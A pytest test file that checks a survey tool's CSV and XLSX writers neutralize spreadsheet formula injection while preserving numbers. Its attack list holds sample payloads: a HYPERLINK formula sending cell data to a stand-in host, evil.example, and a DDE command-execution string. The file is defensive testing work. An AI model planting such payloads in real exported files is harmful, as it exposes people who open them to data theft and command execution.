"""Formula injection is neutralized in every CSV and XLSX written; numbers are untouched."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from survey.spreadsheet import (
    is_formula_like,
    neutralize_formulas,
    neutralize_text,
    write_csv,
    write_xlsx,
)

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(1)",
           "\t=1+1", "\r=1+1", "  =cmd|' /C calc'!A0", "＝1+1"]
SAFE_TEXT = ["-3", "+2.5", "-1e-3", "普通回答", "a=b", "", "3-2"]


def frame():
    return pd.DataFrame({
        "answer": pd.array(ATTACKS + SAFE_TEXT, dtype="str"),
        "obj": pd.Series(ATTACKS + SAFE_TEXT, dtype=object),
        "x": np.arange(len(ATTACKS + SAFE_TEXT), dtype=float) - 5.5,
        "k": np.arange(len(ATTACKS + SAFE_TEXT)) - 3,
    })


def test_neutralize_text_rule():
    for a in ATTACKS:
        assert is_formula_like(a), a
        assert neutralize_text(a) == "'" + a
    for s in SAFE_TEXT:
        assert not is_formula_like(s), s
        assert neutralize_text(s) == s
    assert neutralize_text(-3) == -3


def test_neutralize_formulas_columns_and_names():
    df = frame()
    df["=cmd"] = 1
    df["cat"] = pd.Categorical(["=1"] * (len(df) - 1) + ["ok"])
    out = neutralize_formulas(df)
    n = len(ATTACKS)
    for col in ("answer", "obj"):
        assert out[col].tolist()[:n] == ["'" + a for a in ATTACKS]
        assert out[col].tolist()[n:] == SAFE_TEXT
    assert out["x"].equals(df["x"]) and out["k"].equals(df["k"])
    assert "'=cmd" in out.columns and "=cmd" in df.columns  # input untouched
    assert set(out["cat"].cat.categories) == {"'=1", "ok"}
    assert df["answer"].iloc[0] == ATTACKS[0]


def test_object_column_with_numbers_and_missing():
    df = pd.DataFrame({"m": pd.Series([-1, "=1", None, np.nan, 2.5], dtype=object)})
    out = neutralize_formulas(df)["m"].tolist()
    assert out[0] == -1 and out[1] == "'=1" and out[2] is None and np.isnan(out[3]) and out[4] == 2.5


def test_write_csv_neutralizes_and_keeps_numbers(tmp_path):
    path = write_csv(frame(), tmp_path / "t.csv")
    assert b"\r" not in path.read_bytes()  # a bare CR would split the row
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    n = len(ATTACKS)
    assert len(rows) == len(ATTACKS + SAFE_TEXT) + 1
    assert [r[0] for r in rows[1:n + 1]] == ["'" + a.replace("\r", "\n") for a in ATTACKS]
    for r in rows[1:]:
        assert not is_formula_like(r[0]) and not is_formula_like(r[1])
    assert [r[0] for r in rows[n + 1:]] == SAFE_TEXT
    assert rows[1][2] == "-5.5" and rows[1][3] == "-3"  # numbers stay numbers
    back = pd.read_csv(path, keep_default_na=False)
    assert back["x"].dtype == float and back["x"].tolist() == frame()["x"].tolist()


def test_write_csv_deterministic_and_atomic(tmp_path):
    df = pd.DataFrame({"a": [0.1, 1 / 3, np.nan, 1e-20], "b": ["x", None, "y", "z"]})
    p1 = write_csv(df, tmp_path / "a.csv")
    first = p1.read_bytes()
    assert first == b"a,b\n0.1,x\n0.3333333333333333,\n,y\n1e-20,z\n"
    (tmp_path / "a.csv").write_text("old content")
    write_csv(df, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_bytes() == first
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv"]  # no temp files left
    assert write_csv(df, tmp_path / "bom.csv", bom=True).read_bytes() == b"\xef\xbb\xbf" + first


def test_carriage_return_cannot_start_a_new_row(tmp_path):
    df = pd.DataFrame({"note": ["ok\r=HYPERLINK(1)", "a\r\nb"], "x": [1, 2]})
    df.columns = ["note\r=1", "x"]
    path = write_csv(df, tmp_path / "t.csv")
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["note\n=1", "x"], ["ok\n=HYPERLINK(1)", "1"], ["a\nb", "2"]]


def test_failed_write_leaves_no_partial_file(tmp_path):
    class Boom:
        def __str__(self):
            raise RuntimeError("boom")

    df = pd.DataFrame({"a": [Boom()]})
    with pytest.raises(RuntimeError):
        write_csv(df, tmp_path / "x.csv")
    assert list(tmp_path.iterdir()) == []


def test_write_xlsx_neutralizes_never_formulas(tmp_path):
    path = write_xlsx(frame(), tmp_path / "t.xlsx")
    ws = load_workbook(path).active
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == ["answer", "obj", "x", "k"]
    n = len(ATTACKS)
    for r in rows[1:]:
        assert all(c.data_type != "f" for c in r)
    expected = ["'" + a.replace("\r", "\n") for a in ATTACKS]
    assert [r[0].value for r in rows[1:n + 1]] == expected
    assert [r[1].value for r in rows[1:n + 1]] == expected
    assert [r[0].value or "" for r in rows[n + 1:]] == SAFE_TEXT
    assert rows[1][2].value == -5.5 and rows[1][2].data_type == "n"
    assert rows[1][3].value == -3 and rows[1][3].data_type == "n"


def test_write_xlsx_deterministic_and_missing(tmp_path):
    df = pd.DataFrame({"a": [1.5, np.nan], "b": ["x\x01y", None],
                       "d": pd.to_datetime(["2024-06-09", None])})
    a = write_xlsx(df, tmp_path / "a.xlsx").read_bytes()
    b = write_xlsx(df, tmp_path / "b.xlsx").read_bytes()
    assert a == b
    ws = load_workbook(tmp_path / "a.xlsx").active
    assert ws["A3"].value is None and ws["B3"].value is None and ws["B2"].value == "x\ufffdy"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.xlsx", "b.xlsx"]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=12))
def test_neutralized_text_is_inert_and_reversible(s):
    out = neutralize_text(s)
    assert not is_formula_like(out)
    assert out == s or (out == "'" + s and is_formula_like(s))


@pytest.mark.parametrize("dtype", ["str", object, "category"])
def test_a_single_formula_or_line_break_among_repeated_text_is_found(tmp_path, dtype):
    # the writers check each distinct value once: one bad value in many repeats still counts
    values = ["ok", "fine", None] * 40 + ["=1+1", "a\rb", "\u3000-3", "\u3000=1"]
    df = pd.DataFrame({"t": pd.Series(values, dtype=dtype), "x": np.arange(len(values))})
    with open(write_csv(df, tmp_path / "t.csv"), encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    assert [r[0] for r in rows[-4:]] == ["'=1+1", "a\nb", "\u3000-3", "'\u3000=1"]
    assert [r[0] for r in rows[:3]] == ["ok", "fine", ""]


def test_an_object_column_of_unhashable_values_is_written(tmp_path):
    df = pd.DataFrame({"t": pd.Series([["=1"], {"a": 1}, "=2", "x\ry"], dtype=object)})
    path = write_csv(df, tmp_path / "t.csv")
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["t"], ["['=1']"], ["{'a': 1}"], ["'=2"], ["x\ny"]]
